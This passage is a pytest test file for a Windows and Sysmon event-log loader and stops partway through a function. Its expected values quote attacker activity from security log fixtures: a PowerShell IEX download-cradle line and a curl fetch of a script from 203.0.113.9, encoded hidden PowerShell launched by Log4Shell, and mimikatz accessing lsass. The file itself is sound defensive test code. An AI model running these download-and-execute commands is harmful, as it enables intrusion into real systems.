"""windows_events: each input form on real (or realistic) fixtures, with exact values."""

from __future__ import annotations

import gzip
import json
import shutil
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

import loaders
from loaders.parsing.values import canonical_ip
from loaders.windows_events.from_xml import XmlSplitter, parse_event_xml
from loaders.windows_events.loader import LOADER
from loaders.windows_events.model import WinEvent, to_int

DIR = Path(__file__).parent / "fixtures" / "windows-sysmon"
PSEXEC_EVTX = DIR / "ID11_13_17_18-PSexec_as_system_execution.evtx"
CORE = ["timestamp", "source", "category", "action", "outcome", "user", "user_id", "src_ip",
        "user_agent", "session_id", "host", "target_type", "target", "process_pid",
        "process_ppid", "process_image", "process_command_line", "parent_image",
        "k8s_namespace", "k8s_pod", "k8s_container", "message"]
UTC = "UTC"


def ts(text: str) -> pd.Timestamp:
    return pd.Timestamp(text, tz=UTC)


def load(name: str | Path) -> loaders.LoadResult:
    return loaders.load(DIR / name if isinstance(name, str) else name)


def row(result: loaders.LoadResult, **where: Any) -> dict[str, Any]:
    ev = result.events
    mask = pd.Series(True, index=ev.index)
    for key, value in where.items():
        mask &= ev[key] == value
    found = ev[mask]
    assert len(found) == 1, f"{len(found)} rows match {where}"
    return {k: (None if pd.isna(v) else v) for k, v in found.iloc[0].items()
            if not isinstance(v, list | tuple)}


def subset(record: dict[str, Any], expected: dict[str, Any]) -> dict[str, Any]:
    return {k: record.get(k) for k in expected}


PSEXEC_SYSMON1 = {
    "timestamp": ts("2021-12-04 21:19:16.741995"),
    "source": "windows_events",
    "category": "process",
    "action": "ProcessCreate",
    "outcome": "success",
    "user": "OFFSEC\\admmig",
    "user_id": None,
    "src_ip": None,
    "session_id": "0x83ef56",
    "host": "fs03vuln.offsec.lan",
    "target_type": "process",
    "target": "C:\\TOOLS\\PsExec64.exe",
    "process_pid": 2124,
    "process_ppid": 532,
    "process_image": "C:\\TOOLS\\PsExec64.exe",
    "process_command_line": "PsExec64.exe  -i -s cmd",
    "parent_image": "C:\\Windows\\System32\\cmd.exe",
    "message": "ProcessCreate by OFFSEC\\admmig: PsExec64.exe  -i -s cmd on fs03vuln.offsec.lan",
    "win_event_id": 1,
    "win_channel": "Microsoft-Windows-Sysmon/Operational",
    "win_provider": "Microsoft-Windows-Sysmon",
    "win_record_id": 48593,
    "win_utc_time": ts("2021-12-04 21:19:16.741"),
    "win_rule_name": "technique_id=T1035,technique_name=Service Execution",
    "win_process_guid": "A57649D1-DB54-61AB-775C-DC0100000000",
    "win_parent_process_guid": "A57649D1-ACE8-61A6-885B-920000000000",
    "win_parent_command_line": "\"C:\\Windows\\system32\\cmd.exe\"",
    "win_current_directory": "C:\\TOOLS\\",
    "win_integrity_level": "High",
    "win_logon_id": "0x83ef56",
    "win_hashes": "SHA1=FB0A150601470195C47B4E8D87FCB3F50292BEB2,"
                  "MD5=9321C107D1F7E336CDA550A2BF049108,"
                  "SHA256=AD6B98C01EE849874E4B4502C3D7853196F6044240D3271E4AB3FC6E3C08E9A4,"
                  "IMPHASH=159D56D406180A332FBC99290F30700E",
    "parse_warning": None,
}


# --- EVTX ------------------------------------------------------------------------------


def test_evtx_psexec_counts_and_sysmon1() -> None:
    result = load(PSEXEC_EVTX.name)
    assert (result.counts.read, result.counts.loaded, result.counts.rejected) == (15, 15, 0)
    assert result.events["win_event_id"].value_counts().to_dict() == {
        17: 4, 18: 4, 13: 3, 1: 2, 11: 1, 22: 1}
    rec = row(result, win_record_id=48593)
    assert subset(rec, PSEXEC_SYSMON1) == PSEXEC_SYSMON1
    assert rec["source_line"] == 1  # the record index in the file
    assert rec["raw"].startswith('{"Event":{"#attributes":')
    assert json.loads(rec["win_event_data"])["CommandLine"] == "PsExec64.exe  -i -s cmd"


def test_evtx_psexec_file_registry_pipe_dns() -> None:
    result = load(PSEXEC_EVTX.name)
    created = row(result, win_record_id=48595)
    assert subset(created, {"category": "file", "action": "FileCreate", "target_type": "file",
                            "target": "C:\\Windows\\PSEXESVC.exe", "process_pid": 2124}) == {
        "category": "file", "action": "FileCreate", "target_type": "file",
        "target": "C:\\Windows\\PSEXESVC.exe", "process_pid": 2124}
    reg = row(result, win_record_id=48597)
    assert (reg["category"], reg["action"], reg["target"], reg["win_details"]) == (
        "registry", "SetValue", "HKLM\\System\\CurrentControlSet\\Services\\PSEXESVC\\ImagePath",
        "%%SystemRoot%%\\PSEXESVC.exe")
    pipe = row(result, win_record_id=48598)
    assert (pipe["action"], pipe["target_type"], pipe["target"]) == (
        "PipeCreated", "pipe", "\\PSEXESVC")
    dns = row(result, win_event_id=22)
    assert (dns["category"], dns["target"], dns["win_query_results"], dns["outcome"]) == (
        "network", "fs03vuln", "10.23.42.38;", "success")


def test_evtx_dirty_file_slack_chunks_are_a_warning() -> None:
    result = load("evtx-rs_sysmon.evtx")
    assert (result.counts.read, result.counts.loaded, result.counts.rejected) == (358, 358, 0)
    assert result.warnings == [
        "EVTX chunks 9, 10, 11, 12, 13, 14, 15, 16 have no chunk header (unused or "
        "overwritten space); any records there were not read"]
    lsass = row(result, win_record_id=1754)
    assert subset(lsass, {}) == {}
    assert (lsass["category"], lsass["action"], lsass["process_image"], lsass["process_pid"],
            lsass["target_type"], lsass["target"], lsass["win_granted_access"],
            lsass["win_target_process_guid"], lsass["timestamp"]) == (
        "process", "ProcessAccess", "C:\\Windows\\system32\\svchost.exe", 780, "process",
        "C:\\Windows\\system32\\lsass.exe", "0x1000", "94F748D5-5A64-5966-0000-0010F5880000",
        ts("2017-12-26 13:11:21.176720"))
    net = row(result, win_record_id=2061)
    assert (net["category"], net["src_ip"], net["win_src_port"], net["win_dst_ip"],
            net["win_dst_port"], net["target"], net["user"], net["win_protocol"]) == (
        "network", "192.168.2.128", 59344, "185.26.182.117", 443, "185.26.182.117:443",
        "NT AUTHORITY\\SYSTEM", "tcp")


def test_evtx_gzip_compressed(tmp_path: Path) -> None:
    target = tmp_path / "psexec.evtx.gz"
    with open(PSEXEC_EVTX, "rb") as src, gzip.open(target, "wb") as dst:
        shutil.copyfileobj(src, dst)
    result = loaders.load(target)
    assert result.source == "windows_events"
    assert (result.counts.read, result.counts.loaded) == (15, 15)
    assert subset(row(result, win_record_id=48593), PSEXEC_SYSMON1) == PSEXEC_SYSMON1


# --- the same event in every form -----------------------------------------------------------


@pytest.mark.parametrize("name", ["psexec_sysmon_evtx_dump.jsonl", "psexec_sysmon_wevtutil.xml"])
def test_same_records_as_evtx_give_same_columns_and_uids(name: str) -> None:
    evtx = load(PSEXEC_EVTX.name).events
    other = load(name).events
    assert len(other) == len(evtx) == 15
    keep = [c for c in evtx.columns if c not in ("raw", "source_file", "ingest_id",
                                                  "win_event_data")]
    pd.testing.assert_frame_equal(evtx[keep], other[keep])
    # the native id (computer, channel, record id, time) makes the uid form-independent
    assert evtx["event_uid"].tolist() == other["event_uid"].tolist()


def test_winlogbeat_event_matches_evtx_core_columns() -> None:
    evtx = row(load(PSEXEC_EVTX.name), win_record_id=48593)
    wlb = row(load("winlogbeat_mixed.ndjson"), win_record_id=48593)
    # Winlogbeat writes @timestamp with millisecond precision; everything else is the same.
    assert wlb["timestamp"] == ts("2021-12-04 21:19:16.741")
    same = [c for c in CORE if c != "timestamp"] + [
        "win_event_id", "win_channel", "win_provider", "win_utc_time", "win_process_guid",
        "win_parent_process_guid", "win_hashes", "win_integrity_level", "win_logon_id"]
    assert subset(wlb, dict.fromkeys(same)) == subset(evtx, dict.fromkeys(same))


# --- JSON / NDJSON ---------------------------------------------------------------------------


def test_sentinel_eventdata_string() -> None:
    result = load("otrf_log4shell_sysmon_sentinel.ndjson")
    c = result.counts
    assert (c.read, c.loaded, c.rejected, c.duplicate) == (487, 387, 0, 100)
    first = row(result, source_line=1)
    expected = {
        "timestamp": ts("2022-05-13 08:54:06.347"), "category": "network",
        "action": "NetworkConnect", "outcome": "success",
        "user": "NT AUTHORITY\\LOCAL SERVICE", "src_ip": "192.168.3.5", "host": "WORKSTATION5",
        "target_type": "network_endpoint", "target": "192.168.2.5:8080", "process_pid": 3936,
        "process_image": "C:\\ProgramData\\chocolatey\\lib\\Tomcat\\tools\\"
                         "apache-tomcat-9.0.62\\bin\\tomcat9.exe",
        "win_src_port": 50452, "win_dst_ip": "192.168.2.5", "win_dst_port": 8080,
        "win_protocol": "tcp", "win_utc_time": ts("2022-05-13 08:54:05.123"),
        "win_process_guid": "{f3329a35-1c6c-627e-e516-000000000600}", "win_record_id": None,
    }
    assert subset(first, expected) == expected
    assert result.events["category"].value_counts().to_dict() == {
        "registry": 200, "process": 168, "file": 12, "network": 7}
    # the Log4Shell payload: Tomcat (pid 3936) starts an encoded PowerShell
    spawn = row(result, win_event_id=1, process_pid=2084)
    expected = {
        "timestamp": ts("2022-05-13 08:54:08.437"), "category": "process",
        "action": "ProcessCreate", "outcome": "success", "user": "NT AUTHORITY\\LOCAL SERVICE",
        "session_id": "0x3e5", "host": "WORKSTATION5", "process_ppid": 3936,
        "process_image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "parent_image": "C:\\ProgramData\\chocolatey\\lib\\Tomcat\\tools\\"
                        "apache-tomcat-9.0.62\\bin\\tomcat9.exe",
    }
    assert subset(spawn, expected) == expected
    assert spawn["process_command_line"].startswith(
        "powershell.exe -NonI -W Hidden -NoP -Exec Bypass -Enc SQBmACgAJABQAFMAVgBl")


def test_mordor_flat_fields() -> None:
    result = load("otrf_mordor_schtask_create.ndjson")
    c = result.counts
    assert (c.read, c.loaded, c.rejected, c.duplicate) == (1041, 1029, 0, 12)
    proc = row(result, source_line=178)
    # OTRF's export writes TimeCreated in the host's local time with a "Z": 5 h off Sysmon's
    # UtcTime, which is UTC by definition and is used, saying so (issue 19)
    assert proc["parse_warning"] == ("TimeCreated is -05:00 off UtcTime (a local time "
                                     "written as UTC?); UtcTime is used")
    expected = {
        "timestamp": ts("2020-12-19 12:00:03.821"), "category": "process",
        "action": "ProcessCreate", "user": "THESHIRE\\pgustavo", "session_id": "0x14f3c84",
        "host": "WORKSTATION5.theshire.local", "process_pid": 6328, "process_ppid": 7744,
        "process_image": "C:\\Program Files\\Wireshark\\dumpcap.exe",
        "process_command_line": "\"C:\\Program Files\\Wireshark\\dumpcap.exe\" -n -i "
                                "\\Device\\NPF_{D805082F-2215-41FB-B94A-4FE9C8ADC451} "
                                "-y EN10MB -Z 7744",
        "parent_image": "C:\\Program Files\\Wireshark\\Wireshark.exe",
        "win_process_guid": "{67e11d8c-eb43-5fdd-1b97-000000000700}",
        "win_parent_process_guid": "{67e11d8c-95d0-5fdc-e086-000000000700}",
        "win_integrity_level": "Medium",
    }
    assert subset(proc, expected) == expected
    logon = row(result, win_event_id=4624)
    expected = {
        "timestamp": ts("2020-12-19 07:00:22.238"), "category": "authentication",
        "action": "Logon", "outcome": "success", "user": "THESHIRE.LOCAL\\pgustavo",
        "user_id": "S-1-5-21-3786818125-2382361537-3207726629-1104", "src_ip": "172.18.39.5",
        "session_id": "0xead4335", "host": "WORKSTATION6.theshire.local",
        "win_logon_type": 3, "win_auth_package": "Kerberos", "win_src_port": 56588,
    }
    assert subset(logon, expected) == expected
    task = row(result, win_event_id=4698)
    expected = {
        "category": "system", "action": "ScheduledTaskCreated", "user": "THESHIRE\\pgustavo",
        "target_type": "scheduled_task",
        "target": "\\Microsoft\\Windows\\SoftwareProtectionPlatform\\EventCacheManager",
        "process_command_line": "C:\\Windows\\system32\\cmd.exe /C "
                                "C:\\Windows\\System32\\notepad.exe",
    }
    assert subset(task, expected) == expected
    created = row(result, win_event_id=4688, process_pid=6328)
    assert (created["process_image"], created["process_ppid"], created["parent_image"],
            created["user"]) == ("C:\\Program Files\\Wireshark\\dumpcap.exe", 7744,
                                 "C:\\Program Files\\Wireshark\\Wireshark.exe",
                                 "THESHIRE\\pgustavo")
    unknown = result.events[result.events["win_event_id"] == 4658]
    assert len(unknown) == 28 and set(unknown["category"]) == {"system"}
    assert set(unknown["action"]) == {"Microsoft-Windows-Security-Auditing 4658"}
    assert unknown["win_event_data"].str.contains('"HandleId"').all()


def test_winlogbeat_security_powershell_and_6x() -> None:
    result = load("winlogbeat_mixed.ndjson")
    assert (result.counts.read, result.counts.loaded, result.counts.rejected) == (9, 9, 0)
    failed = row(result, win_event_id=4625)
    expected = {"category": "authentication", "action": "LogonFailed", "outcome": "failure",
                "user": "CONTOSO\\Administrator", "src_ip": "198.51.100.7",
                "win_status": "0xc000006d/0xc000006a", "win_logon_type": 3,
                "win_workstation": "KALI", "win_auth_package": "NTLM",
                "host": "DC01.contoso.local", "win_record_id": 1204780}
    assert subset(failed, expected) == expected
    tgt = row(result, win_event_id=4768)
    assert (tgt["src_ip"], tgt["user"], tgt["outcome"], tgt["target"]) == (
        "10.0.0.23", "CONTOSO.LOCAL\\eve", "success", "krbtgt")
    lsass = row(result, win_event_id=10)
    assert (lsass["process_image"], lsass["target"], lsass["win_granted_access"],
            lsass["user"], lsass["win_process_guid"]) == (
        "C:\\Users\\eve\\mimikatz.exe", "C:\\Windows\\system32\\lsass.exe", "0x1010",
        "CONTOSO\\eve", "{4b1c7d2e-2a30-65e6-9101-000000000b00}")
    group = row(result, win_event_id=4728)
    assert (group["category"], group["user"], group["target_type"], group["target"],
            group["win_member"]) == (
        "access_management", "CONTOSO\\Administrator", "group", "CONTOSO\\Domain Admins",
        "CN=eve,CN=Users,DC=contoso,DC=local")
    script = row(result, win_event_id=4104)
    assert (script["category"], script["user"], script["win_script_block"],
            script["win_script_block_id"]) == (
        "process", "CONTOSO\\alice",
        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')",
        "5f8b0b9e-1c2d-4e3f-9a8b-7c6d5e4f3a2b")
    old = row(result, win_event_id=4720)  # Winlogbeat 6.x layout
    assert (old["timestamp"], old["user"], old["target"], old["host"], old["win_record_id"],
            old["win_channel"], old["outcome"]) == (
        ts("2024-03-05 09:17:02"), "CONTOSO\\alice", "CONTOSO\\svc_backup2",
        "WS01.contoso.local", 88260, "Security", "success")


# --- XML -------------------------------------------------------------------------------------


def test_eventviewer_utf16_xml() -> None:
    result = load("security_system_powershell_eventviewer_utf16.xml")
    assert (result.counts.read, result.counts.loaded, result.counts.rejected) == (9, 9, 0)
    logon = row(result, win_event_id=4624)
    expected = {
        "timestamp": ts("2024-03-05 09:14:22.123456"), "category": "authentication",
        "action": "Logon", "outcome": "success", "user": "CONTOSO\\alice",
        "user_id": "S-1-5-21-1111111111-2222222222-3333333333-1104", "src_ip": "203.0.113.45",
        "session_id": "0x3e1a2b", "host": "WS01.contoso.local", "target": "WS01.contoso.local",
        "process_image": "C:\\Windows\\System32\\svchost.exe", "process_pid": 0x3B4,
        "win_logon_type": 10, "win_src_port": 50522, "win_workstation": "WS01",
        "win_record_id": 88231, "source_line": 3,
        "message": "Logon by CONTOSO\\alice: WS01.contoso.local from 203.0.113.45 on "
                   "WS01.contoso.local",
    }
    assert subset(logon, expected) == expected
    proc = row(result, win_event_id=4688)
    expected = {"process_image": "C:\\Windows\\System32\\whoami.exe", "process_pid": 0x1A2C,
                "process_ppid": 0x9F0, "parent_image": "C:\\Windows\\System32\\cmd.exe",
                "process_command_line": "whoami /all", "user": "CONTOSO\\alice",
                "session_id": "0x3e1a2b", "win_integrity_level": "High", "outcome": "success"}
    assert subset(proc, expected) == expected
    assert row(result, win_event_id=4625)["outcome"] == "failure"
    cleared = row(result, win_event_id=1102)
    assert (cleared["category"], cleared["action"], cleared["user"], cleared["target"]) == (
        "system", "AuditLogCleared", "CONTOSO\\alice", "Security")
    service = row(result, win_event_id=7045)
    assert (service["target"], service["process_command_line"], service["win_details"],
            service["user_id"]) == ("PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", "LocalSystem",
                                    "S-1-5-21-1111111111-2222222222-3333333333-1104")
    added = row(result, win_event_id=4732)
    assert (added["target"], added["win_member"]) == (
        "Builtin\\Administrators", "S-1-5-21-1111111111-2222222222-3333333333-1201")
    app = row(result, win_event_id=1000)
    assert (app["category"], app["action"], app["outcome"], app["win_event_data"]) == (
        "system", "Application Error 1000", "unknown",
        '{"Data": ["notepad.exe", "10.0.19041.1", "c0000005"]}')


def test_xml_entity_bomb_is_refused_not_expanded() -> None:
    result = load("xml_entity_bomb.xml")
    assert (result.counts.read, result.counts.loaded, result.counts.rejected) == (3, 1, 2)
    reasons = result.rejects["reason"].tolist()
    assert reasons[0].startswith("XML document type declaration refused")
    assert "undefined entity" in reasons[1] and "never expanded" in reasons[1]
    assert result.rejects["source_line"].tolist() == [1, 14]
    assert result.events.iloc[0]["process_command_line"] == "cmd.exe /c echo ok"


@pytest.mark.parametrize("text, reason", [
    ('<!DOCTYPE x [<!ENTITY a "b">]><Event><System/></Event>', "XML refused (DTDForbidden)"),
    ("<Event><System><EventID>1</EventID></System>", "invalid event XML"),
    ("<Other/>", "not an <Event> element"),
])
def test_parse_event_xml_refusals(text: str, reason: str) -> None:
    result = parse_event_xml(text)
    assert isinstance(result, str) and result.startswith(reason)


def test_xml_splitter_truncated_and_stray_text() -> None:
    ok = "<Event><System><EventID>1</EventID></System></Event>"
    stream = iter([f"<?xml version='1.0'?>\n<Events>{ok[:20]}", f"\n{ok}\nstray\n{ok[:30]}"])
    pieces = list(XmlSplitter(stream))
    assert [(p.line, p.error is None) for p in pieces] == [
        (2, False), (3, True), (4, False), (5, False)]
    assert pieces[0].error and pieces[0].error.startswith("truncated event")
    assert pieces[2].error == "text outside any <Event> element: 'stray'"
    assert pieces[3].error == "truncated event: the file ends before </Event>"


def test_xml_splitter_bounds_an_oversized_event() -> None:
    ok = "<Event><System><EventID>1</EventID></System></Event>"
    big = "<Event><EventData><Data>" + "x" * 5000 + "</Data></EventData></Event>"
    pieces = list(XmlSplitter(iter([big[:2000], big[2000:], ok]), max_event=1000))
    assert [p.error for p in pieces] == ["event larger than 1000 characters", None]
    assert pieces[1].text == ok


# --- Sysmon for Linux -----------------------------------------------------------------------


def test_sysmon_for_linux_syslog() -> None:
    result = load("sysmon_for_linux_syslog.log")
    c = result.counts
    assert (c.read, c.loaded, c.rejected) == (4, 3, 1)
    assert result.warnings == ["1 syslog lines without Sysmon event XML were skipped"]
    assert result.rejects.iloc[0]["source_line"] == 5
    assert result.rejects.iloc[0]["reason"].startswith("truncated event XML")
    proc = row(result, win_event_id=1)
    expected = {
        "timestamp": ts("2024-03-05 10:02:11.588204"), "category": "process",
        "action": "ProcessCreate", "outcome": "success", "user": "www-data", "host": "web01",
        "process_pid": 24518, "process_ppid": 24511, "process_image": "/usr/bin/curl",
        "process_command_line": "curl -s http://203.0.113.9/x.sh -o /tmp/.x",
        "parent_image": "/usr/bin/dash", "win_channel": "Linux-Sysmon/Operational",
        "win_process_guid": "{7d2e6d42-ee33-65e6-e5b1-9a4d0f560000}", "source_line": 1,
    }
    assert subset(proc, expected) == expected
    assert proc["raw"].startswith("Mar  5 10:02:11 web01 sysmon: <Event>")
    net = row(result, win_event_id=3)
    assert (net["src_ip"], net["target"], net["win_dst_port"]) == (
        "192.168.56.20", "203.0.113.9:80", 80)


SENTINEL_SYSLOG = "sysmon_for_linux_sentinel_syslog.jsonl"


def test_sysmon_for_linux_in_a_sentinel_syslog_export() -> None:
    """Log Analytics / Sentinel Syslog rows: the XML in SyslogMessage is read as the syslog
    line's, so the same events get the same values and event_uid; the CRON row is skipped
    (file warning), the cut XML rejected, and TimeGenerated (received later) is not used."""
    result = load(SENTINEL_SYSLOG)
    c = result.counts
    assert (c.read, c.loaded, c.rejected, c.duplicate) == (4, 3, 1, 0)
    assert result.warnings == ["1 Syslog table rows without Sysmon event XML were skipped"]
    rej = result.rejects.iloc[0]
    assert rej["source_line"] == 5
    assert rej["reason"] == ("truncated event XML: SyslogMessage ends before </Event> "
                             "(syslog message length limit?)")
    ev = result.events
    assert ev["source_line"].tolist() == [1, 2, 4]
    assert ev["win_event_id"].tolist() == [1, 3, 11]
    assert ev["timestamp"].tolist() == [ts("2024-03-05 10:02:11.588204"),
                                        ts("2024-03-05 10:02:11.612"),
                                        ts("2024-03-05 10:02:11.700")]
    assert ev["parse_warning"].isna().all()
    # the FileCreate XML has no <Computer>: the row's HostName (the syslog sender) is used
    assert ev["host"].tolist() == ["web01", "web01", "web01"]
    proc = row(result, win_event_id=1)
    expected = {
        "category": "process", "action": "ProcessCreate", "user": "www-data",
        "process_pid": 24518, "process_ppid": 24511, "process_image": "/usr/bin/curl",
        "process_command_line": "curl -s http://203.0.113.9/x.sh -o /tmp/.x",
        "win_channel": "Linux-Sysmon/Operational", "win_record_id": 3121,
    }
    assert subset(proc, expected) == expected
    assert json.loads(proc["raw"])["ProcessName"] == "sysmon"
    net = row(result, win_event_id=3)  # its message starts with "Event " before the XML
    assert (net["src_ip"], net["target"], net["win_dst_port"]) == (
        "192.168.56.20", "203.0.113.9:80", 80)
    syslog = load("sysmon_for_linux_syslog.log").events
    assert ev["event_uid"].tolist() == syslog["event_uid"].tolist()
    columns = [c for c in ev.columns if c not in ("raw", "source_file", "source_line",
                                                   "event_uid", "ingest_id")]
    pd.testing.assert_frame_equal(ev[columns].reset_index(drop=True),
                                  syslog[columns].reset_index(drop=True))


def _syslog_row(message: str, **extra: Any) -> dict[str, Any]:
    base = {"TimeGenerated": "2024-03-05T10:09:00.5Z", "Computer": "collector01",
            "HostName": "web02", "Facility": "user", "SeverityLevel": "info",
            "ProcessName": "sysmon", "ProcessID": 812, "SyslogMessage": message,
            "Type": "Syslog"}
    base.update(extra)
    return base


_TERMINATE = ('<Event><System><Provider Name="Linux-Sysmon" Guid="{{ff032593-a8d3-4f13-b0d6-'
              '01fc615a0f97}}"/><EventID>5</EventID><Version>3</Version><Level>4</Level>'
              '<Task>5</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>'
              '{time}<EventRecordID>3130</EventRecordID><Correlation/><Execution '
              'ProcessID="812" ThreadID="812"/><Channel>Linux-Sysmon/Operational</Channel>'
              '{computer}<Security UserId="0"/></System><EventData><Data Name="RuleName">-'
              '</Data>{utc}<Data Name="ProcessGuid">{{7d2e6d42-ee33-65e6-e5b1-9a4d0f560000}}'
              '</Data><Data Name="ProcessId">24518</Data><Data Name="Image">/usr/bin/curl'
              '&amp;x</Data><Data Name="User">www-data</Data></EventData></Event>')


def _terminate(time: bool = True, utc: bool = True, computer: bool = True) -> str:
    return _TERMINATE.format(
        time='<TimeCreated SystemTime="2024-03-05T10:08:59.001000000Z"/>' if time else "",
        utc='<Data Name="UtcTime">2024-03-05 10:08:58.997</Data>' if utc else "",
        computer="<Computer>web01</Computer>" if computer else "")


@pytest.mark.parametrize("shape", ["jsonl", "array"])
def test_sentinel_syslog_rows_escaped_timeless_and_array(tmp_path: Path, shape: str) -> None:
    """An XML-escaped message is unescaped once (its own &amp; stays an &); without
    TimeCreated the time is Sysmon's UtcTime, without either the row's TimeGenerated; the
    host is HostName, then Computer; a JSON array export reads like JSON Lines."""
    escaped = (_terminate().replace("&", "&amp;").replace("<", "&lt;")
               .replace(">", "&gt;").replace('"', "&quot;"))
    rows = [_syslog_row(escaped),
            _syslog_row(_terminate(time=False, computer=False)),
            _syslog_row(_terminate(time=False, utc=False, computer=False), HostName=""),
            _syslog_row("pam_unix(cron:session): session closed for user root",
                        ProcessName="CRON"),
            _syslog_row("<Event><System><EventID>5</EventID></System>&bad;</Event>")]
    path = tmp_path / f"syslog.{shape}"
    if shape == "array":
        path.write_text(json.dumps(rows, indent=1), "utf-8")
    else:
        path.write_text("".join(json.dumps(r) + "\n" for r in rows), "utf-8")
    assert loaders.detect(path.read_bytes(), path.name).name == "windows_events"
    result = loaders.load(path)
    c = result.counts
    assert (c.read, c.loaded, c.rejected) == (4, 3, 1)
    assert result.warnings == ["1 Syslog table rows without Sysmon event XML were skipped"]
    assert result.rejects.iloc[0]["reason"].startswith("XML refused: undefined entity")
    ev = result.events
    assert ev["timestamp"].tolist() == [ts("2024-03-05 10:08:59.001"),
                                        ts("2024-03-05 10:08:58.997"),
                                        ts("2024-03-05 10:09:00.5")]
    assert ev["host"].tolist() == ["web01", "web02", "collector01"]
    assert ev["process_image"].tolist() == ["/usr/bin/curl&x"] * 3
    assert (ev["action"] == "ProcessTerminate").all()


def test_sentinel_syslog_export_is_sniffed_even_escaped() -> None:
    """The sniffer looks for SyslogMessage and the Linux-Sysmon provider, so an export whose
    XML is \\u003c-escaped, or whose head has other programs' rows first, is detected; a
    Syslog export without Sysmon is not windows_events'."""
    row_text = json.dumps(_syslog_row(_terminate())).replace("<", "\\u003c")
    cron = json.dumps(_syslog_row("(root) CMD (true)", ProcessName="CRON"))
    assert LOADER.sniff((cron + "\n" + row_text + "\n").encode(), "x.json")
    assert not LOADER.sniff((cron + "\n").encode(), "x.json")


# --- unit behaviour ----------------------------------------------------------------------------


def _event(**kw: Any) -> WinEvent:
    base: dict[str, Any] = {
        "event_id": 4624, "channel": "Security", "provider": None, "computer": "h1",
        "record_id": 7, "times": [("System/TimeCreated/@SystemTime", "2024-01-01T00:00:00Z")],
        "data": {"TargetUserName": "bob", "IpAddress": "10.0.0.1"}}
    base.update(kw)
    return WinEvent(**base)


def test_event_without_time_is_rejected_and_damaged_fields_warn() -> None:
    item = LOADER.event_item(_event(times=[("TimeCreated", None)]), 1, "x")
    assert type(item).__name__ == "Reject"
    assert item.reason.startswith("event without a readable time")  # type: ignore[union-attr]
    item = LOADER.event_item(_event(times=[("TimeCreated", "yesterday"),
                                           ("@timestamp", "2024-01-01T00:00:01Z")],
                                    data={"TargetUserName": "bob", "IpAddress": "bogus"}), 2, "x")
    assert type(item).__name__ == "Parsed"
    assert item.fields["src_ip"] is None  # type: ignore[union-attr]
    assert item.fields["timestamp"].isoformat() == "2024-01-01T00:00:01+00:00"  # type: ignore[union-attr]
    assert item.warnings == [  # type: ignore[union-attr]
        "TimeCreated: not an ISO 8601 timestamp: 'yesterday'",
        "src_ip: not an IP address: 'bogus'"]


def test_native_id_includes_time_because_record_ids_restart() -> None:
    a = LOADER.event_item(_event(), 1, "a")
    b = LOADER.event_item(_event(times=[("t", "2024-02-01T00:00:00Z")]), 1, "a")
    c = LOADER.event_item(_event(), 9, "different raw, same event")
    ids = [i.native_id for i in (a, b, c)]  # type: ignore[union-attr]
    assert ids[0] != ids[1] and ids[0] == ids[2]


def test_value_helpers() -> None:
    assert [to_int(v) for v in ("0x1a2c", "532", 7, "-", "x", True)] == [
        6700, 532, 7, None, None, None]
    assert canonical_ip("::ffff:10.0.0.23") == ("10.0.0.23", None)
    assert canonical_ip("fe80::1%12") == ("fe80::1", None)
    assert canonical_ip("-") == (None, None)


@pytest.mark.parametrize("head, expected", [
    (b'{"EventID": 4624, "Channel": "Security", "Computer": "x"}', True),
    (b'{"winlog": {"event_id": "1", "channel": "x"}}', True),
    (b'{"Event": {"System": {"EventRecordID": 1}}}', True),
    (b'{"EventID": 4624, "foo": 1}', False),
    (b'{"kind": "Event", "apiVersion": "audit.k8s.io/v1"}', False),
    (b"<Event xmlns='x'><System><EventID>1</EventID></System></Event>", True),
    (b"<html><body>Event</body></html>", False),
    (b"Mar  5 10:02:11 web01 sshd[1]: Accepted password for bob", False),
])
def test_sniff(head: bytes, expected: bool) -> None:
    assert LOADER.sniff(head, "x") is expected


# --- shapes and JSON renderings the fixtures do not cover ---------------------------------------


def _fields(**kw: Any) -> dict[str, Any]:
    item = LOADER.event_item(_event(**kw), 1, "x")
    assert type(item).__name__ == "Parsed", item
    return item.fields  # type: ignore[union-attr,no-any-return]


@pytest.mark.parametrize("channel, event_id, data, expected", [
    ("Microsoft-Windows-PowerShell/Operational", 4103,
     {"ContextInfo": "        Severity = Informational\r\n        Host Name = ConsoleHost\r\n"
                     "        Host Application = powershell.exe -nop -enc SQBFAFgA\r\n"
                     "        User = CONTOSO\\alice\r\n",
      "Payload": "CommandInvocation(Invoke-Expression): \"Invoke-Expression\""},
     {"category": "process", "action": "ModuleLogging", "user": "CONTOSO\\alice",
      "process_command_line": "powershell.exe -nop -enc SQBFAFgA",
      "win_script_block": "CommandInvocation(Invoke-Expression): \"Invoke-Expression\""}),
    ("Windows PowerShell", 400,
     {"Data": ["Available", "None", "\tNewEngineState=Available\r\n\tHostName=ConsoleHost\r\n"
               "\tHostApplication=powershell.exe -w hidden -c iex\r\n"]},
     {"category": "process", "action": "EngineStarted",
      "process_command_line": "powershell.exe -w hidden -c iex"}),
    ("Security", 4776,
     {"PackageName": "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0", "TargetUserName": "bob",
      "Workstation": "KALI", "Status": "0xc000006a"},
     {"category": "authentication", "user": "bob", "outcome": "failure",
      "win_status": "0xc000006a", "win_workstation": "KALI"}),
    ("Security", 5140,
     {"SubjectUserName": "bob", "SubjectDomainName": "CONTOSO", "IpAddress": "10.0.0.9",
      "IpPort": "50100", "ShareName": "\\\\*\\C$", "ObjectType": "File"},
     {"category": "data_access", "user": "CONTOSO\\bob", "src_ip": "10.0.0.9",
      "target_type": "share", "target": "\\\\*\\C$", "win_src_port": 50100}),
    ("Microsoft-Windows-Sysmon/Operational", 7,
     {"Image": "C:\\Windows\\System32\\rundll32.exe", "ImageLoaded": "C:\\Users\\x\\evil.dll",
      "ProcessId": "4242", "Hashes": "SHA256=AB"},
     {"category": "process", "action": "ImageLoad", "target_type": "image",
      "target": "C:\\Users\\x\\evil.dll", "process_pid": 4242, "win_hashes": "SHA256=AB"}),
    ("Security", 4634, {"TargetUserName": "bob", "TargetDomainName": "CONTOSO",
                        "TargetLogonId": "0x1234", "LogonType": "3"},
     {"category": "session", "action": "Logoff", "user": "CONTOSO\\bob", "session_id": "0x1234",
      "win_logon_type": 3}),
])
def test_shapes(channel: str, event_id: int, data: dict[str, Any],
                expected: dict[str, Any]) -> None:
